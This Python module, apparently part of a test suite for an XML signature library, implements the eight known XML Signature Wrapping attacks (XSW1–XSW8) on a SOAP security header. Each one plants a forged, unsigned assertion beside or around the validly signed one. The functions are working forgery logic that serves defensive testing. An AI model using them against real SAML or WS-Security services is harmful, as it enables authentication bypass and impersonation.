"""Signature wrapping: the known attacks XSW1 to XSW8 (Somorovsky et al., 2012), laid out for a SOAP header.

In each the signed assertion is still there, whole, and its signature would verify; a careless reader takes the forged
one. The first two exchanged the response around the assertion; here the header block around it.
"""

from collections.abc import Callable
from copy import deepcopy

from lxml import etree

from socle.assertions.making.names import WSSE, S
from socle.xmldsig.names import DS, D

FORGED = "899999999999"
"""NameID of the forged assertion."""


def _forged(assertion: etree._Element) -> etree._Element:
    """A copy for somebody else, with an ID of its own and no signature."""
    copy = deepcopy(assertion)
    copy.tail = None
    copy.set("ID", f"{assertion.get('ID', '')}f")
    for signature in copy.findall(f"{D}Signature"):
        copy.remove(signature)
    name = copy.find(f"{S}Subject/{S}NameID")
    if name is not None:
        name.text = FORGED
    return copy


def _bare(assertion: etree._Element) -> etree._Element:
    """A copy of the signed assertion without its signature."""
    copy = deepcopy(assertion)
    copy.tail = None
    copy.remove(_signature(copy))
    return copy


def _signature(assertion: etree._Element) -> etree._Element:
    found = assertion.find(f"{D}Signature")
    assert found is not None
    return found


def _security(assertion: etree._Element) -> etree._Element:
    found = assertion.getparent()
    assert found is not None
    return found


def _xsw1(assertion: etree._Element) -> None:
    """The forged header block first, the signed one behind it."""
    security = _security(assertion)
    forged = etree.Element(f"{{{WSSE}}}Security")
    forged.append(_forged(assertion))
    security.addprevious(forged)


def _xsw2(assertion: etree._Element) -> None:
    """The forged header block first, the signed one in a block that nobody reads."""
    security = _security(assertion)
    _xsw1(assertion)
    hidden = etree.Element("hidden")
    security.addnext(hidden)
    hidden.append(security)


def _xsw3(assertion: etree._Element) -> None:
    """The forged assertion before the signed one."""
    assertion.addprevious(_forged(assertion))


def _xsw4(assertion: etree._Element) -> None:
    """The forged assertion around the signed one."""
    forged = _forged(assertion)
    _security(assertion).replace(assertion, forged)
    forged.append(assertion)


def _xsw5(assertion: etree._Element) -> None:
    """The signature in the forged assertion, the signed one without it at the end."""
    bare, forged = _bare(assertion), _forged(assertion)
    forged.insert(1, _signature(assertion))
    security = _security(assertion)
    security.replace(assertion, forged)
    security.append(bare)


def _xsw6(assertion: etree._Element) -> None:
    """The same, the signed one within the signature."""
    bare, forged, signature = _bare(assertion), _forged(assertion), _signature(assertion)
    forged.insert(1, signature)
    signature.append(bare)
    _security(assertion).replace(assertion, forged)


def _xsw7(assertion: etree._Element) -> None:
    """The forged assertion in an extension before the signed one."""
    extension = etree.Element("Extensions")
    extension.append(_forged(assertion))
    assertion.addprevious(extension)


def _xsw8(assertion: etree._Element) -> None:
    """The forged assertion holds the signature, whose Object holds the signed one."""
    bare, forged, signature = _bare(assertion), _forged(assertion), _signature(assertion)
    forged.insert(1, signature)
    held = etree.SubElement(signature, f"{{{DS}}}Object")
    held.append(bare)
    _security(assertion).replace(assertion, forged)


WRAPPINGS: dict[str, Callable[[etree._Element], None]] = {
    f"xsw{number}": attack for number, attack in enumerate((_xsw1, _xsw2, _xsw3, _xsw4, _xsw5, _xsw6, _xsw7, _xsw8), 1)
}
"""Each changes the message around the signed assertion it gets, whose parent is ``wsse:Security`` in a header."""
